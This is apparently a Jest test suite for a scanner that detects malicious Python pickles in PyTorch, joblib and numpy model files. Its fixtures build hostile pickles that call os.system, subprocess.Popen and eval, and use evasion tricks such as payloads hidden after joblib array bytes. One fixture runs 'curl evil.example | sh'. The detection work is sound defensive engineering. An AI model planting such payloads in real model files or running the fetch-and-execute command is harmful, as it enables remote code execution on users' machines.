import { describe, expect, test } from '@jest/globals';
import { gzipSync } from 'node:zlib';
import { zipSync } from 'fflate';
import { scanPickle } from '../src/pickle/vm.js';
import { judgeGlobal } from '../src/pickle/policy.js';
import { scanBytes, sniff, type FormatLimits } from '../src/formats.js';
import { bytes, op } from './pickle-bytes.js';

const policy = { allow: new Map<string, string>() };
const limits: FormatLimits = { policy, maxInflate: 1 << 20 };
const scan = (b: Uint8Array) => scanPickle(b, 0, { policy, continueAfterStop: true });
const dangerous = (b: Uint8Array) => scan(b).issues.filter((i) => i.kind === 'dangerous' || i.kind === 'dynamic' || i.kind === 'build-global');
const offsetOf = (b: Buffer, s: string) => b.indexOf(Buffer.from(s, 'latin1'));

describe('malicious pickles: each trick is flagged with the global and its byte offset', () => {
  test('protocol 0 GLOBAL + REDUCE (os.system)', () => {
    const b = bytes(op.global('os', 'system'), op.mark, op.str0('id'), op.tuple, op.reduce, op.stop);
    const [i] = dangerous(b);
    expect(i).toMatchObject({ kind: 'dangerous', global: 'os.system', offset: 0, call: { via: 'REDUCE', offset: b.indexOf(0x52) } });
    expect(i!.message).toMatch(/os\.system imported at byte 0 and called via REDUCE/);
  });

  test('protocol 2 posix.system with memo puts', () => {
    const b = bytes(op.proto(2), op.global('posix', 'system'), op.binput(0), op.ustr('id'), op.binput(1), op.tuple1, op.reduce, op.stop);
    expect(dangerous(b)).toEqual([expect.objectContaining({ global: 'posix.system', offset: 2 })]);
  });

  test('protocol 4 STACK_GLOBAL from memoised strings (builtins.eval)', () => {
    const body = bytes(op.str('builtins'), op.memoize, op.str('eval'), op.memoize, op.stackGlobal, op.memoize, op.str("__import__('os').system('id')"), op.tuple1, op.reduce, op.stop);
    const b = bytes(op.proto(4), op.frame(body.length), body);
    const [i] = dangerous(b);
    expect(i).toMatchObject({ global: 'builtins.eval', offset: b.indexOf(0x93), call: { via: 'REDUCE' } });
  });

  test('STACK_GLOBAL whose operands come back through BINGET after decoys', () => {
    const b = bytes(op.proto(4), op.str('subprocess'), op.binput(7), op.pop, op.str('harmless'), op.pop, op.str('Popen'), op.binput(8), op.pop, op.binget(7), op.binget(8), op.stackGlobal, op.mark, op.str('id'), op.tuple, op.reduce, op.stop);
    expect(dangerous(b)[0]).toMatchObject({ global: 'subprocess.Popen', offset: b.indexOf(0x93) });
  });

  test('INST (protocol 0 instantiate) runs the callable', () => {
    const b = bytes(op.mark, op.str0('id'), op.inst('os', 'system'), op.stop);
    expect(dangerous(b)[0]).toMatchObject({ global: 'os.system', offset: offsetOf(b, 'ios'), call: { via: 'INST' } });
  });

  test('OBJ calls the class popped from the mark', () => {
    const b = bytes(op.mark, op.global('subprocess', 'check_output'), op.str0('id'), op.obj, op.stop);
    expect(dangerous(b)[0]).toMatchObject({ global: 'subprocess.check_output', call: { via: 'OBJ' } });
  });

  test('NEWOBJ of a dangerous class', () => {
    const b = bytes(op.proto(2), op.global('socket', 'socket'), op.emptyTuple, op.newobj, op.stop);
    expect(dangerous(b)[0]).toMatchObject({ global: 'socket.socket', call: { via: 'NEWOBJ' } });
  });

  test('BUILD applied to a global (monkey-patching a module at load time)', () => {
    const b = bytes(op.proto(2), op.global('numpy', 'testing'), op.emptyDict, op.str('__builtins__'), op.str('x'), op.setitem, op.build, op.stop);
    const kinds = dangerous(b).map((i) => i.kind);
    expect(kinds).toContain('build-global');
  });

  test('dotted names that walk to os through another module', () => {
    const b = bytes(op.global('pathlib', 'os.system'), op.mark, op.str0('id'), op.tuple, op.reduce, op.stop);
    expect(dangerous(b)[0]).toMatchObject({ global: 'pathlib.os.system' });
  });

  test('dunder attribute chains (numpy.__builtins__)', () => {
    expect(judgeGlobal('numpy', '__builtins__', policy).verdict).toBe('dangerous');
  });

  test('STACK_GLOBAL with a computed module name is an unjudgeable import', () => {
    const b = bytes(op.proto(4), op.global('builtins', 'str'), op.str('os'), op.tuple1, op.reduce, op.str('system'), op.stackGlobal, op.stop);
    expect(dangerous(b)[0]).toMatchObject({ kind: 'dynamic', offset: b.indexOf(0x93) });
  });

  test('EXT1 (copyreg extension registry) cannot be resolved and is flagged', () => {
    const b = bytes(op.proto(2), op.ext1(1), op.emptyTuple, op.reduce, op.stop);
    expect(dangerous(b)[0]).toMatchObject({ kind: 'dynamic', offset: 2 });
  });

  test('a payload after the first STOP of stacked pickles (legacy PyTorch layout)', () => {
    const magic = bytes(op.proto(2), [0x8a, 0x0a, 0x6c, 0xfc, 0x9c, 0x46, 0xf9, 0x20, 0x6a, 0xa8, 0x50, 0x19], op.stop);
    const version = bytes(op.proto(2), [0x4d, 0xe9, 0x03], op.stop);
    const evil = bytes(op.proto(2), op.global('os', 'system'), op.ustr('id'), op.tuple1, op.reduce, op.stop);
    const b = bytes(magic, version, evil);
    expect(dangerous(b)[0]).toMatchObject({ global: 'os.system', offset: magic.length + version.length + 2 });
  });

  test('unknown globals are warnings, the bundled allowlist passes, project allowlist silences', () => {
    const b = bytes(op.proto(2), op.global('fraud.model', 'Scorer'), op.emptyTuple, op.newobj, op.stop);
    expect(scan(b).issues).toEqual([expect.objectContaining({ kind: 'unknown', global: 'fraud.model.Scorer' })]);
    const allowed = scanPickle(b, 0, { policy: { allow: new Map([['fraud.model.Scorer', 'our own class, reviewed']]) } });
    expect(allowed.issues).toEqual([]);
  });
});

/** A joblib stream: NumpyArrayWrapper state, then raw array bytes inline, then the rest of the pickle. */
function joblibWithPayload(arrayBytes: Buffer, payload: boolean, alignment = true) {
  const dtype = bytes(op.global('numpy', 'dtype'), op.str('f8'), op.false, op.true, op.tuple3, op.reduce, op.mark, op.int1(3), op.str('<'), op.none, op.none, op.none, op.binint(-1), op.binint(-1), op.int1(0), op.tuple, op.build);
  const state = bytes(
    op.emptyDict, op.mark,
    op.str('subclass'), op.global('numpy', 'ndarray'),
    op.str('shape'), op.int1(arrayBytes.length / 8), op.tuple1,
    op.str('order'), op.str('C'),
    op.str('dtype'), dtype,
    op.str('allow_mmap'), op.false,
    ...(alignment ? [op.str('numpy_array_alignment_bytes'), op.int1(16)] : []),
    op.setitems,
  );
  const head = bytes(op.proto(4), op.emptyList, op.global('joblib.numpy_pickle', 'NumpyArrayWrapper'), op.emptyTuple, op.newobj, state, op.build);
  const pad = alignment ? Buffer.from([3, 0xff, 0xff, 0xff]) : Buffer.alloc(0);
  const tail = payload ? bytes(op.append, op.global('os', 'system'), op.ustr('curl evil.example | sh'), op.tuple1, op.reduce, op.append, op.stop) : bytes(op.append, op.stop);
  return { b: bytes(head, pad, arrayBytes, tail), payloadAt: head.length + pad.length + arrayBytes.length + 1 };
}

describe('joblib inline numpy arrays (picklescan stops at the raw bytes)', () => {
  // Array data made of STOP ('.') opcodes: a naive opcode walker ends the stream inside the array.
  const array = Buffer.alloc(64, 0x2e);

  test('the payload after an inline array is reached and located', () => {
    const { b, payloadAt } = joblibWithPayload(array, true);
    expect(dangerous(b)).toEqual([expect.objectContaining({ global: 'os.system', offset: payloadAt })]);
  });

  test('without the alignment byte (joblib < 1.2) as well', () => {
    const { b, payloadAt } = joblibWithPayload(array, true, false);
    expect(dangerous(b)[0]).toMatchObject({ global: 'os.system', offset: payloadAt });
  });

  test('array bytes that are opcodes for plain pickle.load are scanned that way too', () => {
    let prog = bytes(op.global('os', 'system'), op.ustr('id'), op.tuple1, op.reduce, op.pop);
    prog = bytes(prog, 'N'.repeat((8 - (prog.length % 8)) % 8));
    const { b } = joblibWithPayload(prog, false, false);
    expect(scan(b).issues).toEqual([]);
    const found = scanBytes('model.pkl', b, 'pickle', limits);
    expect(found).toEqual([expect.objectContaining({ kind: 'dangerous', global: 'os.system', message: expect.stringMatching(/plain pickle\.load/) })]);
  });

  test('a look-alike NumpyArrayWrapper outside joblib does not make the scanner skip bytes', () => {
    const { b } = joblibWithPayload(array, true);
    const fake = Buffer.from(b.toString('latin1').replace('joblib.numpy_pickle', 'evil.numpy_pickl'), 'latin1');
    expect(dangerous(fake).length + scan(fake).issues.filter((i) => i.kind === 'malformed').length).toBeGreaterThan(0);
    expect(scan(fake).issues.map((i) => i.global)).toContain('evil.numpy_pickl.NumpyArrayWrapper');
  });

  test('a benign joblib file is clean and compressed joblib is inflated first', () => {
    const { b } = joblibWithPayload(array, false);
    expect(scan(b).issues).toEqual([]);
    const evil = joblibWithPayload(array, true).b;
    expect(sniff('model.joblib', gzipSync(evil))).toBe('gzip');
    expect(scanBytes('model.joblib', gzipSync(evil), 'gzip', limits).map((i) => i.global)).toContain('os.system');
  });
});

describe('benign controls pass', () => {
  const data = (proto: number) => {
    const body = bytes(op.emptyDict, op.mark, op.str('weights'), op.emptyList, op.mark, op.binfloat(), op.int1(7), op.appends, op.str('name'), op.str('fraud'), op.setitems, op.stop);
    if (proto <= 1) return bytes(op.mark, op.str0('weights'), op.list, op.str0('name'), op.str0('fraud'), op.dict, op.stop);
    if (proto === 5) return bytes(op.proto(5), op.frame(body.length + 20), op.emptyDict, op.str('blob'), op.bytearray8(Buffer.from('abc')), op.setitem, op.stop);
    return bytes(op.proto(proto), body);
  };
  for (const p of [0, 1, 2, 3, 4, 5]) {
    test(`protocol ${p} data pickle`, () => {
      const r = scan(data(p));
      expect(r.issues).toEqual([]);
      expect(r.pickles).toBe(1);
    });
  }

  test('a PyTorch-style zip checkpoint (rebuild_tensor_v2 + FloatStorage + OrderedDict) is clean', () => {
    const pkl = bytes(
      op.proto(2), op.global('collections', 'OrderedDict'), op.emptyTuple, op.reduce,
      op.str('fc.weight'),
      op.global('torch._utils', '_rebuild_tensor_v2'),
      op.mark, op.mark, op.str('storage'), op.global('torch', 'FloatStorage'), op.str('0'), op.str('cpu'), op.int1(4), op.tuple, op.binpersid,
      op.int1(0), op.int1(2), op.int1(2), op.tuple2, op.int1(2), op.int1(1), op.tuple2, op.false, op.global('collections', 'OrderedDict'), op.emptyTuple, op.reduce, op.tuple, op.reduce,
      op.setitem, op.stop,
    );
    const zip = zipSync({ 'archive/data.pkl': pkl, 'archive/data/0': new Uint8Array(16), 'archive/version': Buffer.from('3\n') });
    expect(sniff('model.pt', zip)).toBe('zip');
    expect(scanBytes('model.pt', zip, 'zip', limits)).toEqual([]);
  });
});

describe('containers', () => {
  const evil = bytes(op.proto(2), op.global('os', 'system'), op.ustr('id'), op.tuple1, op.reduce, op.stop);

  test('a malicious PyTorch zip names the member', () => {
    const zip = zipSync({ 'archive/data.pkl': evil, 'archive/version': Buffer.from('3\n') });
    expect(scanBytes('model.pt', zip, 'zip', limits)).toEqual([expect.objectContaining({ member: 'archive/data.pkl', global: 'os.system', offset: 2 })]);
  });

  test('numpy .npy object array and .npz', () => {
    const header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }";
    const padded = header.padEnd(118, ' ') + '\n';
    const npy = bytes([0x93], 'NUMPY', [1, 0, padded.length & 255, padded.length >> 8], padded, evil);
    expect(sniff('x.npy', npy)).toBe('npy');
    expect(scanBytes('x.npy', npy, 'npy', limits)[0]).toMatchObject({ global: 'os.system', offset: 10 + padded.length + 2 });
    const npz = zipSync({ 'arr_0.npy': npy });
    expect(scanBytes('x.npz', npz, 'zip', limits)[0]).toMatchObject({ member: 'arr_0.npy', global: 'os.system' });
    const plain = bytes([0x93], 'NUMPY', [1, 0, 118, 0], "{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }".padEnd(117, ' ') + '\n', Buffer.alloc(8));
    expect(scanBytes('y.npy', plain, 'npy', limits)).toEqual([]);
  });

  test('an encrypted archive is unscannable, not safe', () => {
    const zip = Buffer.from(zipSync({ 'archive/data.pkl': evil }, { level: 0 }));
    for (let i = 0; i < zip.length - 4; i++) {
      const sig = zip.readUInt32LE(i);
      if (sig === 0x04034b50) zip.writeUInt16LE(zip.readUInt16LE(i + 6) | 1, i + 6);
      if (sig === 0x02014b50) zip.writeUInt16LE(zip.readUInt16LE(i + 8) | 1, i + 8);
    }
    expect(scanBytes('model.pt', zip, 'zip', limits)).toEqual([expect.objectContaining({ kind: 'unscannable', member: 'archive/data.pkl' })]);
  });

  test('7z and xz are unscannable', () => {
    const sevenZ = bytes([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]);
    expect(sniff('model.7z', sevenZ)).toBe('7z');
    expect(scanBytes('model.7z', sevenZ, '7z', limits)[0]!.kind).toBe('unscannable');
    expect(sniff('model.joblib', bytes([0xfd, 0x37, 0x7a, 0x58, 0x5a, 0]))).toBe('unscannable-compression');
  });
});

describe('hostile inputs are bounded and reported', () => {
  test('a zip bomb member is not inflated', () => {
    const bomb = zipSync({ 'archive/data.pkl': new Uint8Array(8 << 20) });
    expect(bomb.length).toBeLessThan(64 << 10);
    expect(scanBytes('bomb.pt', bomb, 'zip', limits)).toEqual([expect.objectContaining({ kind: 'too-large', member: 'archive/data.pkl' })]);
  });

  test('a gzip bomb stops at the inflate limit', () => {
    const bomb = gzipSync(new Uint8Array(8 << 20));
    expect(scanBytes('bomb.joblib', bomb, 'gzip', limits)[0]!.kind).toBe('too-large');
  });

  test('deeply nested opcodes hit the stack limit, not the JS stack', () => {
    const deep = bytes(op.proto(2), '('.repeat(200_000), op.stop);
    const r = scanPickle(deep, 0, { policy, maxStack: 100_000 });
    expect(r.issues).toEqual([expect.objectContaining({ kind: 'limit' })]);
    const nested = bytes(op.proto(2), Buffer.from(']'.repeat(100_000) + 'a'.repeat(99_999)), op.stop);
    expect(scan(nested).issues).toEqual([]);
  });

  test('a truncated stream is malformed, and what was seen before is still reported', () => {
    const cut = bytes(op.proto(2), op.global('os', 'system'), op.ustr('id'));
    const r = scan(cut.subarray(0, cut.length - 1));
    expect(r.issues.map((i) => i.kind).sort()).toEqual(['dangerous', 'malformed']);
    expect(scan(bytes(op.proto(2), 'cos\nsys')).issues).toEqual([expect.objectContaining({ kind: 'malformed' })]);
  });

  test('random bytes never throw', () => {
    let seed = 7;
    for (let n = 0; n < 300; n++) {
      const b = Buffer.alloc(200);
      for (let i = 0; i < b.length; i++) b[i] = (seed = (seed * 1103515245 + 12345) & 0x7fffffff) & 255;
      b[0] = 0x80;
      b[1] = 4;
      expect(() => scan(b)).not.toThrow();
    }
  });
});
